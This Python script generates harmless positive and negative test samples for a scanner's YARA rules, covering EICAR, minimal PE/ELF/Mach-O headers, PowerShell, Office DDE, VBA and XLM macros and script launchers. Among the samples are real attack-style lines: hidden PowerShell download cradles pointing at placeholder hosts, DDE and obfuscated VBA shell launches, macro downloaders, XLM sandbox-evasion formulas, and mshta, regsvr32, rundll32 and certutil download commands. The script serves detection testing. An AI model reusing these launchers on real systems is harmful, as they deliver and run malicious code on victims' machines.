#!/usr/bin/env python3
"""Generate harmless positive/negative samples for the bundled YARA rules.

Usage: make_samples.py OUTDIR

Writes the samples into OUTDIR plus OUTDIR/manifest.json, a list of
    {"sample": file name in OUTDIR,
     "rule": rule name,
     "expect": true if the rule must match, false if it must not,
     "depth": depth of the node the rule must (not) match: 0 = the file itself,
              1 = the single member of a zip,
     "wrap": "none" | "zip",
     "member": name of the zip member (wrapped samples only),
     "filetype": what the scanner's sniffer would report for the node; only a
                 hint for test_rules.py --yara, the rules do not rely on it}

A depth-1 sample is always a zip holding exactly one member: the executable
rules only fire on nodes found inside a container (depth > 0).

Every sample is built here, at test time, from harmless bytes.  In particular
the EICAR test string never appears literally in the repository: it is joined
from two halves below.
"""

import base64
import json
import os
import struct
import sys
import zipfile

# The EICAR test string, split so no source file contains it contiguously.
_EICAR_HEAD = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
_EICAR_TAIL = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def eicar() -> bytes:
    data = (_EICAR_HEAD + _EICAR_TAIL).encode("ascii")
    assert len(data) == 68
    return data


# ---------------------------------------------------------------------------
# Minimal executable headers (just enough structure for the rules; they do
# not run anywhere).

def pe_image(e_lfanew: int = 0x80, signature: bytes = b"PE\0\0",
             truncate_after_sig: bool = False) -> bytes:
    """MZ header + DOS stub text + PE signature + COFF file header."""
    dos = bytearray(0x40)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, e_lfanew)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    img = bytes(dos) + stub
    if e_lfanew < len(img) or e_lfanew > 0x1000:
        # pointer deliberately out of range: just pad to a plausible size
        return img.ljust(0x200, b"\0")
    img = img.ljust(e_lfanew, b"\0") + signature
    if truncate_after_sig:
        return img
    # IMAGE_FILE_HEADER: i386, no sections, no optional header, EXECUTABLE_IMAGE
    img += struct.pack("<HHIIIHH", 0x014C, 0, 0, 0, 0, 0, 0x0002)
    return img.ljust(0x200, b"\0")


def elf_image(bits: int = 64, little: bool = True) -> bytes:
    """ELF identification + header fields of an ET_EXEC for x86(-64)/PPC."""
    e = "<" if little else ">"
    ident = b"\x7fELF" + bytes([2 if bits == 64 else 1, 1 if little else 2, 1])
    ident = ident.ljust(16, b"\0")
    if bits == 64:
        # e_type, e_machine, e_version, e_entry, e_phoff, e_shoff, e_flags,
        # e_ehsize, e_phentsize, e_phnum, e_shentsize, e_shnum, e_shstrndx
        hdr = struct.pack(e + "HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0,
                          64, 56, 0, 64, 0, 0)
    else:
        hdr = struct.pack(e + "HHIIIIIHHHHHH", 2, 0x14, 1, 0x10000, 52, 0, 0,
                          52, 32, 0, 40, 0, 0)
    return (ident + hdr).ljust(128, b"\0")


def macho_image(magic_bytes: bytes) -> bytes:
    """mach_header(_64) with the given 4 magic bytes as they appear on disk."""
    little = magic_bytes in (b"\xce\xfa\xed\xfe", b"\xcf\xfa\xed\xfe")
    is64 = magic_bytes in (b"\xfe\xed\xfa\xcf", b"\xcf\xfa\xed\xfe")
    e = "<" if little else ">"
    cputype = 0x01000007 if is64 else 7            # x86_64 / i386
    # cputype, cpusubtype, filetype=MH_EXECUTE, ncmds, sizeofcmds, flags
    hdr = magic_bytes + struct.pack(e + "iiIIII", cputype, 3, 2, 0, 0, 0)
    if is64:
        hdr += b"\0\0\0\0"                          # reserved
    return hdr.ljust(256, b"\0")


def fat_image(magic: int = 0xCAFEBABE, nfat: int = 2,
              truncate: bool = False) -> bytes:
    """Universal binary header: big-endian fat_header + fat_arch table."""
    out = struct.pack(">II", magic, nfat)
    if truncate:
        return out + b"\0" * 4      # claims nfat entries but holds none
    for i in range(nfat):
        if magic == 0xCAFEBABF:     # fat_arch_64: cpu, sub, off64, size64, align, reserved
            out += struct.pack(">iiQQII", 0x01000007, 3, 0x1000 * (i + 1), 256, 12, 0)
        else:                       # fat_arch: cpu, sub, off, size, align
            out += struct.pack(">iiIII", 7 if i == 0 else 0x01000007, 3,
                               0x1000 * (i + 1), 256, 12)
    return out.ljust(512, b"\0")


def java_class() -> bytes:
    """Java class file header: same 0xCAFEBABE magic, then version 52.0."""
    # magic, minor 0, major 52 (Java 8), constant_pool_count 1, access flags...
    return (struct.pack(">IHHH", 0xCAFEBABE, 0, 52, 1)
            + struct.pack(">HHHHHHH", 0x21, 0, 0, 0, 0, 0, 0)).ljust(64, b"\0")


# ---------------------------------------------------------------------------
# PowerShell helpers

def ps_b64(script: str) -> str:
    """What powershell -EncodedCommand expects: base64 of UTF-16LE text."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


ENC_BENIGN = ps_b64("Write-Output 'Sekisho rule test'; Get-Date")
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')"


# ---------------------------------------------------------------------------

class Samples:
    def __init__(self, outdir: str):
        self.outdir = outdir
        self.manifest = []

    def add(self, name: str, data: bytes, expects: dict, *,
            wrap: str = "none", member: str = None, filetype: str = "data"):
        """Write one sample; expects maps rule name -> bool."""
        path = os.path.join(self.outdir, name)
        entry_extra = {}
        if wrap == "zip":
            assert member, "wrapped samples need a member name"
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
                zf.writestr(member, data)
            depth = 1
            entry_extra["member"] = member
        else:
            assert wrap == "none"
            with open(path, "wb") as f:
                f.write(data)
            depth = 0
        for rule, expect in expects.items():
            entry = {"sample": name, "rule": rule, "expect": bool(expect),
                     "depth": depth, "wrap": wrap}
            entry.update(entry_extra)
            entry["filetype"] = filetype
            self.manifest.append(entry)

    def write_manifest(self):
        with open(os.path.join(self.outdir, "manifest.json"), "w") as f:
            json.dump(self.manifest, f, indent=1)
            f.write("\n")


def eicar_samples(s: Samples):
    r = "EICAR_Test_File"
    e = eicar()
    s.add("eicar.com", e, {r: True}, filetype="text")
    s.add("eicar_crlf.txt", e + b"\r\n", {r: True}, filetype="text")
    # every allowed whitespace byte, padded to exactly 128 bytes
    ws = (b" \t\r\n\x1a" * 20)[:60]
    s.add("eicar_ws_128.txt", e + ws, {r: True}, filetype="text")
    s.add("eicar_in_zip.zip", e, {r: True}, wrap="zip", member="eicar.com",
          filetype="text")
    # negatives
    s.add("eicar_ws_129.txt", e + ws + b" ", {r: False}, filetype="text")
    s.add("eicar_junk_long.txt", e + b"\r\n" + b"junk " * 40, {r: False},
          filetype="text")
    s.add("eicar_trailing_text.txt", e + b" not whitespace", {r: False},
          filetype="text")
    s.add("eicar_offset.txt", b"Note: " + e, {r: False}, filetype="text")
    s.add("eicar_truncated.txt", e[:-1], {r: False}, filetype="text")


def executable_samples(s: Samples):
    PE, ELF, MACHO = ("Executable_PE_In_Container", "Executable_ELF_In_Container",
                      "Executable_MachO_In_Container")

    # --- PE
    s.add("pe_in_zip.zip", pe_image(), {PE: True, ELF: False, MACHO: False},
          wrap="zip", member="invoice.exe", filetype="pe")
    # same executable, renamed: detection is by content
    s.add("pe_renamed_in_zip.zip", pe_image(e_lfanew=0xE8), {PE: True},
          wrap="zip", member="invoice.pdf", filetype="pe")
    s.add("pe_toplevel.exe", pe_image(), {PE: False}, filetype="pe")
    s.add("mz_text_in_zip.zip",
          b"MZ is the signature of DOS executables; this file is only a note "
          b"about that and is not an executable at all.\n",
          {PE: False}, wrap="zip", member="notes.txt", filetype="text")
    s.add("pe_bad_lfanew_in_zip.zip", pe_image(e_lfanew=0x7FFFFFF0), {PE: False},
          wrap="zip", member="bad.exe", filetype="data")
    s.add("pe_ne_in_zip.zip", pe_image(signature=b"NE\0\0"), {PE: False},
          wrap="zip", member="old.exe", filetype="data")
    s.add("pe_truncated_in_zip.zip", pe_image(truncate_after_sig=True),
          {PE: False}, wrap="zip", member="trunc.exe", filetype="data")

    # --- ELF
    s.add("elf64_in_zip.zip", elf_image(64, True), {ELF: True, PE: False, MACHO: False},
          wrap="zip", member="update", filetype="elf")
    s.add("elf32be_in_zip.zip", elf_image(32, False), {ELF: True},
          wrap="zip", member="payload.bin", filetype="elf")
    s.add("elf_toplevel", elf_image(), {ELF: False}, filetype="elf")
    s.add("elf_text_in_zip.zip",
          b"\x7fELF is how ELF files start; this text is not one of them.\n",
          {ELF: False}, wrap="zip", member="elf.txt", filetype="data")

    # --- Mach-O: the four thin magics and both fat magics
    thin = [("feedface", b"\xfe\xed\xfa\xce"), ("feedfacf", b"\xfe\xed\xfa\xcf"),
            ("cefaedfe", b"\xce\xfa\xed\xfe"), ("cffaedfe", b"\xcf\xfa\xed\xfe")]
    for label, magic in thin:
        expects = {MACHO: True}
        if label == "cffaedfe":
            expects.update({PE: False, ELF: False})
        s.add(f"macho_{label}_in_zip.zip", macho_image(magic), expects,
              wrap="zip", member="app", filetype="macho")
    s.add("macho_fat_in_zip.zip", fat_image(0xCAFEBABE), {MACHO: True},
          wrap="zip", member="Installer", filetype="macho")
    s.add("macho_fat64_in_zip.zip", fat_image(0xCAFEBABF), {MACHO: True},
          wrap="zip", member="Installer64", filetype="macho")
    s.add("macho_toplevel", macho_image(b"\xcf\xfa\xed\xfe"), {MACHO: False},
          filetype="macho")
    s.add("java_class_in_zip.zip", java_class(), {MACHO: False},
          wrap="zip", member="Main.class", filetype="data")
    s.add("macho_fat_truncated_in_zip.zip", fat_image(nfat=2, truncate=True),
          {MACHO: False}, wrap="zip", member="broken", filetype="data")


def powershell_samples(s: Samples):
    ENC, B64, CRD = ("PowerShell_EncodedCommand",
                     "PowerShell_Base64_Encoded_Directives",
                     "PowerShell_Hidden_Download_Cradle")

    def text(name, content, expects, encoding="utf-8"):
        s.add(name, content.encode(encoding), expects, filetype="text")

    # --- PowerShell_EncodedCommand
    text("ps_enc_basic.bat",
         f"@echo off\r\npowershell.exe -NoProfile -enc {ENC_BENIGN}\r\n",
         {ENC: True, B64: False, CRD: False})
    text("ps_enc_full.cmd", f"PWSH -EncodedCommand {ENC_BENIGN}\r\n", {ENC: True})
    text("ps_enc_slash_e.txt", f"powershell /e {ENC_BENIGN}\n", {ENC: True})
    text("ps_enc_quoted_ec.lnk.txt",
         f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '
         f'-nop -w hidden -ec "{ENC_BENIGN}"\n', {ENC: True})
    text("ps_enc_prefix_encodedc.txt",
         f"powershell -NonInteractive -EnCodedC {ENC_BENIGN}\n", {ENC: True})
    text("ps_enc_endash.txt", f"powershell \u2013enc {ENC_BENIGN}\n", {ENC: True})
    text("ps_enc_utf16.ps1", f"\ufeffpowershell -encodedcommand {ENC_BENIGN}\r\n",
         {ENC: True}, encoding="utf-16-le")
    # negatives
    text("ps_enc_howto.txt",
         "To run a script non-interactively, call powershell -EncodedCommand "
         "followed by a base64 string of the UTF-16LE script text.\n",
         {ENC: False})
    text("ps_execpolicy.bat",
         "powershell -ExecutionPolicy Bypass -File C:\\scripts\\backup_maintenance_job.ps1\r\n",
         {ENC: False})
    text("ps_enc_other_tool.txt",
         "tool.exe -enc SGVsbG8gV29ybGQgdGhpcyBpcyBiYXNlNjQ=\n", {ENC: False})
    text("ps_enc_blob_next_line.txt",
         f"powershell -enc\n{ENC_BENIGN}\n", {ENC: False})

    # --- PowerShell_Base64_Encoded_Directives
    # two directives (IEX + Net.WebClient + DownloadString), no launcher needed
    text("ps_b64_cradle.txt", ps_b64(CRADLE) + "\n", {B64: True, ENC: False})
    # one strong directive + a launcher; 0/1/2-character prefixes put the
    # directive at each of the three base64 alignments
    for pad in ("", "a", "ab"):
        text(f"ps_b64_single_align{len(pad)}.txt",
             "Run with powershell:\n" + ps_b64(pad + "Invoke-Expression $payload") + "\n",
             {B64: True})
    text("ps_b64_fromb64_startproc.txt",
         ps_b64("$b=[Convert]::FromBase64String($d); Start-Process $exe") + "\n",
         {B64: True})
    # negatives
    text("ps_b64_benign.txt", "powershell payload:\n" + ENC_BENIGN + "\n", {B64: False})
    text("ps_b64_ascii.txt",
         "powershell\n" + base64.b64encode(CRADLE.encode()).decode() + "\n",
         {B64: False})
    text("ps_b64_plaintext.txt", "powershell -c \"" + CRADLE + "\"\n",
         {B64: False})
    text("ps_b64_single_weak.txt",
         "powershell\n" + ps_b64("Start-Process notepad.exe") + "\n", {B64: False})
    text("ps_b64_single_no_launcher.txt",
         ps_b64("Invoke-Expression $payload") + "\n", {B64: False})

    # --- PowerShell_Hidden_Download_Cradle
    text("ps_cradle_hidden.bat", f'powershell -nop -w hidden -c "{CRADLE}"\r\n',
         {CRD: True, ENC: False})
    text("ps_cradle_flags.cmd",
         "pwsh -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command "
         "\"Invoke-WebRequest -Uri http://example.invalid/x -OutFile $env:TEMP\\x.exe\"\r\n",
         {CRD: True})
    text("ps_cradle_utf16.ps1",
         "\ufeffpowershell.exe -WindowStyle Hidden -Command "
         "\"iwr http://example.invalid/x | iex\"\r\n",
         {CRD: True}, encoding="utf-16-le")
    text("ps_cradle_w1.txt",
         "powershell -w 1 -c \"Start-BitsTransfer http://example.invalid/x $env:TEMP\\x\"\n",
         {CRD: True})
    # negatives
    text("ps_cradle_no_download.bat",
         "powershell -nop -w hidden -File C:\\scripts\\nightly_backup.ps1\r\n",
         {CRD: False})
    text("ps_cradle_no_flags.bat",
         "powershell -Command \"Invoke-WebRequest -Uri https://example.invalid/report.csv "
         "-OutFile report.csv\"\r\n", {CRD: False})
    text("ps_cradle_one_flag.bat",
         "powershell -NoProfile -Command \"(New-Object Net.WebClient).DownloadFile("
         "'https://example.invalid/report.csv', 'report.csv')\"\r\n", {CRD: False})
    text("ps_cradle_no_launcher.txt",
         "The -nop and -w hidden flags hide the console window; DownloadString "
         "then fetches the next stage.\n", {CRD: False})
    # the words are all there, but scattered over an unrelated text (as in
    # big logs or package lists): the flags are not on a launcher line
    text("ps_cradle_scattered.txt",
         "pkg-a\tWrapper around PowerShell for CI\n"
         "pkg-b\tcompiler option -nop disables the prelude\n"
         "pkg-c\trun tests with -noninteractive\n"
         "pkg-d\tdownloadfile helper for node\n", {CRD: False})
    text("ps_mention.txt",
         "Please open PowerShell and run Get-Help about_Execution_Policies.\n",
         {ENC: False, B64: False, CRD: False})


def office_samples(s: Samples):
    xml = "Office_DDE_Field_In_XML"
    csv = "Office_DDE_Formula_In_CSV"
    s.add("dde_word2003.xml",
          b'<?xml version="1.0"?><w:wordDocument><w:body><w:p><w:r>'
          b'<w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText>'
          b'</w:r></w:p></w:body></w:wordDocument>', {xml: True, csv: False}, filetype="xml")
    s.add("dde_fldsimple.xml",
          b'<?xml version="1.0"?><w:p><w:fldSimple w:instr=" DDE Excel Sheet1 R1C1 "/></w:p>',
          {xml: True}, filetype="xml")
    s.add("field_page.xml",
          b'<?xml version="1.0"?><w:p><w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText>'
          b'</w:r><w:r><w:t>DDE is discussed here</w:t></w:r></w:p>', {xml: False}, filetype="xml")
    s.add("dde_spreadsheetml.xml",
          b'<?xml version="1.0"?><Workbook><Worksheet><Table><Row>'
          b'<Cell ss:Formula="=cmd|\'/c calc.exe\'!A1"><Data ss:Type="Number">0</Data></Cell>'
          b'</Row></Table></Worksheet></Workbook>', {xml: True}, filetype="xml")
    s.add("sum_spreadsheetml.xml",
          b'<?xml version="1.0"?><Workbook><Cell ss:Formula="=SUM(R1C1:R2C1)"/></Workbook>',
          {xml: False}, filetype="xml")
    s.add("dde.csv", b"name,value\r\n=cmd|'/k ..\\..\\Windows\\System32\\calc.exe'!A0,1\r\n",
          {csv: True, xml: False}, filetype="text")
    s.add("formula.csv", b"name,value\r\ntotal,=SUM(A1:A9)\r\nnote,\"it's a|b 'quote'!\"\r\n",
          {csv: False}, filetype="text")


def _fixtures():
    """tests/fixtures, for the OLE2 writer (VBA projects)."""
    here = os.path.dirname(os.path.abspath(__file__))
    sys.path.insert(0, os.path.join(os.path.dirname(here), "fixtures"))
    import mkole
    return mkole


def _xlsb(kind):
    """An .xlsb package (tests/fixtures/mkooxml.py: a BIFF12 macro sheet)."""
    import io
    _fixtures()
    import mkooxml
    out = io.BytesIO()
    mkooxml.write(out, getattr(mkooxml, kind)())
    return out.getvalue()


def macro_samples(s: Samples):
    """Macro rules read derived nodes: VBA source inside an OLE2 document
    (written by tests/fixtures/mkole.py) and XLM formulas of a SYLK file and
    of an .xlsb macro sheet (BIFF12 formulas, tests/fixtures/mkooxml.py),
    which must read alike."""
    mkole = _fixtures()

    def doc(name, source, expects):
        project = mkole.vba_project([("Module1", source)])
        s.add(name, mkole.cfb({"WordDocument": b"placeholder", "Macros": project}),
              expects, filetype="ole2")

    down, wmi, obf, ps = ("VBA_Downloader", "VBA_WMI_Process_Create",
                          "VBA_Obfuscated_Launcher", "VBA_PowerShell_Launch")
    doc("vba_urlmon.doc",
        'Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal a As Long) As Long\r\n'
        'Sub AutoOpen()\r\n  URLDownloadToFileA 0, "http://example.invalid/a.exe", "a.exe", 0, 0\r\nEnd Sub\r\n',
        {down: True, wmi: False, obf: False, ps: False})
    doc("vba_xmlhttp_save.doc",
        'Sub Document_Open()\r\n  Set h = CreateObject("MSXML2.XMLHTTP")\r\n'
        '  h.Open "GET", "https://payload.example.invalid/x", False\r\n  h.Send\r\n'
        '  Set s = CreateObject("ADODB.Stream")\r\n  s.SaveToFile "x.exe", 2\r\nEnd Sub\r\n',
        {down: True})
    doc("vba_xmlhttp_report.doc",
        'Sub Refresh()\r\n  Set h = CreateObject("MSXML2.XMLHTTP")\r\n'
        '  h.Open "GET", "https://intranet.example.invalid/rates.json", False\r\n  h.Send\r\n'
        '  Range("A1").Value = h.responseText\r\nEnd Sub\r\n',
        {down: False, wmi: False, obf: False, ps: False})
    doc("vba_wmi_create.doc",
        'Sub AutoOpen()\r\n  Set p = GetObject("winmgmts:root\\cimv2:Win32_Process")\r\n'
        '  p.Create "cmd /c calc.exe", Null, Null, pid\r\nEnd Sub\r\n',
        {wmi: True})
    doc("vba_wmi_query.doc",
        'Sub Inventory()\r\n  Set w = GetObject("winmgmts:")\r\n'
        '  For Each d In w.InstancesOf("Win32_LogicalDisk")\r\n    Debug.Print d.Size\r\n  Next\r\nEnd Sub\r\n',
        {wmi: False})
    chrs = " & ".join("Chr(%d)" % c for c in b"cmd.exe /c calc.exe ok")
    doc("vba_chr_shell.doc", 'Sub AutoOpen()\r\n  Shell ' + chrs + '\r\nEnd Sub\r\n', {obf: True})
    doc("vba_strreverse.doc",
        'Sub AutoOpen()\r\n  Set o = CreateObject(StrReverse("llehS.tpircSW"))\r\n'
        '  o.Run StrReverse("exe.clac")\r\nEnd Sub\r\n', {obf: True})
    doc("vba_chr_table.doc",
        'Function Tab9()\r\n  Tab9 = Chr(9) & Chr(13) & Chr(10)\r\nEnd Function\r\n', {obf: False})
    doc("vba_powershell_hidden.doc",
        'Sub AutoOpen()\r\n  Shell "powershell -w hidden -nop -c IEX (New-Object Net.WebClient)'
        '.DownloadString(\'http://example.invalid/p\')"\r\nEnd Sub\r\n', {ps: True})
    doc("vba_powershell_comment.doc",
        "Sub Notes()\r\n  ' see the powershell documentation for -nop\r\n  MsgBox \"done\"\r\nEnd Sub\r\n",
        {ps: False})

    xexec, xevade = "XLM_Exec_Or_Download", "XLM_Sandbox_Evasion"
    sylk = lambda formulas: ("ID;PWXL;N;E\r\nO;L;E;D;V0\r\nNN;NAuto_open;ER1C1\r\n" + "".join(
        "C;Y%d;X1;E%s\r\n" % (i + 1, f) for i, f in enumerate(formulas)) + "E\r\n").encode()
    s.add("xlm_exec.slk", sylk(['EXEC("calc.exe")', "HALT()"]), {xexec: True, xevade: False},
          filetype="text")
    s.add("xlm_register.slk",
          sylk(['REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","dl")', "HALT()"]),
          {xexec: True}, filetype="text")
    s.add("xlm_evasion.slk", sylk(["IF(GET.WORKSPACE(19),,CLOSE(TRUE))", "WORKBOOK.HIDE()", "HALT()"]),
          {xevade: True}, filetype="text")
    s.add("xlm_alert.slk", sylk(['ALERT("hello")', "HALT()"]), {xexec: False, xevade: False},
          filetype="text")
    s.add("xlm_nested_exec.slk", sylk(['IF(GET.WORKSPACE(1)="x",EXEC("calc.exe"))', "HALT()"]),
          {xexec: True}, filetype="text")
    s.add("xlm_exec.xlsb", _xlsb("xlsb_xlm"), {xexec: True, xevade: False}, filetype="zip")
    s.add("xlm_evasion.xlsb", _xlsb("xlsb_evasion"), {xevade: True, xexec: False},
          filetype="zip")
    s.add("xlm_alert.xlsb", _xlsb("xlsb_alert"), {xexec: False, xevade: False}, filetype="zip")


def script_samples(s: Samples):
    DL, AX, SH, MSHTA, REG, RUN, CERT = (
        "Script_Downloader", "Script_ActiveXObject", "Script_WScript_Shell_Run",
        "Script_Mshta_Remote", "Script_Regsvr32_Scriptlet", "Script_Rundll32_Suspicious",
        "Script_Certutil_Decode")

    def text(name, content, expects, filetype="text"):
        s.add(name, content.encode("utf-8"), expects, filetype=filetype)

    # --- Script_Downloader: a fetch plus a save or a run, in a script
    text("dl_xmlhttp.vbs",
         'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://example.invalid/a", False\r\n'
         'x.Send\r\nSet st = CreateObject("ADODB.Stream")\r\nst.Open\r\nst.Type = 1\r\n'
         'st.Write x.responseBody\r\nst.SaveToFile "a.exe", 2\r\n', {DL: True, AX: False})
    text("dl_iwr.ps1",
         "Invoke-WebRequest -Uri http://example.invalid/a.exe -OutFile $env:TEMP\\a.exe\r\n"
         "Start-Process $env:TEMP\\a.exe\r\n", {DL: True})
    text("dl_webclient_utf16.ps1",
         "\ufeff$c = New-Object Net.WebClient; IEX $c.DownloadString('http://example.invalid/s')\r\n",
         {DL: True})
    # the same words in a how-to are not a script
    text("dl_howto.txt",
         "To fetch the report, run Invoke-WebRequest -Uri https://example.com/r.csv -OutFile r.csv\n",
         {DL: False})
    # a script that only reads a web service and saves nothing
    text("dl_get_only.js",
         'var x = new XMLHttpRequest(); x.open("GET", "/api/status"); x.send();\n', {DL: False})

    # --- Script_ActiveXObject
    text("ax_shell.js", 'var sh = new ActiveXObject("WScript.Shell");\n', {AX: True, SH: False})
    text("ax_fso.jse.js", "var fs = new ActiveXObject('Scripting.FileSystemObject');\n", {AX: True})
    text("ax_benign.js", 'var xml = new ActiveXObject("MSXML2.DOMDocument.6.0");\n', {AX: False})
    text("ax_in_text.txt", 'Older pages used new ActiveXObject("WScript.Shell") in IE.\n',
         {AX: False})

    # --- Script_WScript_Shell_Run
    text("sh_run.vbs", 'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe", 0\r\n',
         {SH: True})
    text("sh_exec.js", 'var sh = new ActiveXObject("WScript.Shell"); sh.Exec("cmd /c whoami");\n',
         {SH: True, AX: True})
    text("sh_app.vbs",
         'Set a = CreateObject("Shell.Application")\r\na.ShellExecute "cmd.exe", "/c calc", "", "open", 0\r\n',
         {SH: True})
    text("sh_env_only.vbs",
         'Set sh = CreateObject("WScript.Shell")\r\nWScript.Echo sh.ExpandEnvironmentStrings("%TEMP%")\r\n',
         {SH: False})

    # --- command lines
    text("mshta_url.bat", "mshta http://example.invalid/a.hta\r\n", {MSHTA: True})
    text("mshta_inline.cmd",
         'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")\r\n',
         {MSHTA: True})
    text("mshta_local.bat", "mshta C:\\Tools\\setup.hta\r\n", {MSHTA: False})
    text("regsvr32_url.bat",
         "regsvr32 /s /n /u /i:http://example.invalid/file.sct scrobj.dll\r\n", {REG: True})
    text("regsvr32_plain.bat", "regsvr32 /s C:\\Program Files\\App\\plugin.dll\r\n",
         {REG: False})
    text("rundll32_js.bat",
         'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)\r\n', {RUN: True})
    text("rundll32_temp.bat", "rundll32 %TEMP%\\x.dll,DllRegisterServer\r\n", {RUN: True})
    text("rundll32_system.bat", "rundll32 shell32.dll,Control_RunDLL desk.cpl\r\n", {RUN: False})
    text("certutil_decode.bat", "certutil -decode payload.b64 payload.exe\r\n", {CERT: True})
    text("certutil_urlcache.cmd",
         "certutil.exe -urlcache -split -f http://example.invalid/a.exe a.exe\r\n", {CERT: True})
    text("certutil_dump.bat", "certutil -dump cert.cer\r\n", {CERT: False})


def main(argv):
    if len(argv) != 2:
        print(f"usage: {argv[0]} OUTDIR", file=sys.stderr)
        return 2
    outdir = argv[1]
    os.makedirs(outdir, exist_ok=True)
    s = Samples(outdir)
    eicar_samples(s)
    executable_samples(s)
    powershell_samples(s)
    office_samples(s)
    macro_samples(s)
    script_samples(s)
    s.write_manifest()
    nsamples = len({e["sample"] for e in s.manifest})
    print(f"wrote {nsamples} samples, {len(s.manifest)} manifest entries to {outdir}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
